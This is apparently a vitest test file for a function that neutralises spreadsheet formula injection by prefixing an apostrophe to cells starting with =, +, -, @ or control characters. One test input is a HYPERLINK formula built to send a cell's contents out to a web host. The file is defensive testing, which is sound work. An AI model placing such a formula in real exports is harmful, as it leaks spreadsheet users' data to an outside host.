import { describe, expect, it } from 'vitest';
import { neutraliseFormula } from './neutraliseFormula';

describe('neutraliseFormula(cell)', () => {
  it.each([
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    '+1',
    '-2',
    '@x',
    '@SUM(A1:A9)',
    '\tfoo',
    '\rfoo',
    '\0foo',
  ])('prefixes an apostrophe to %j, which a spreadsheet would run as a formula', (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it('also when whitespace comes first, since an import that trims spaces would expose the formula', () => {
    expect(neutraliseFormula(' =1+1')).toBe("' =1+1");
    expect(neutraliseFormula('\n -2')).toBe("'\n -2");
  });

  it.each([
    '',
    'Aleppo',
    "'already text",
    'a=b',
    '1-2',
    '2024-11-30T20:59:59.000Z',
    ' leading space, then words',
    '«Innrykkingen i Syrias nest største by»',
    '“pemberontak”',
  ])('leaves %j unchanged', (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });
});
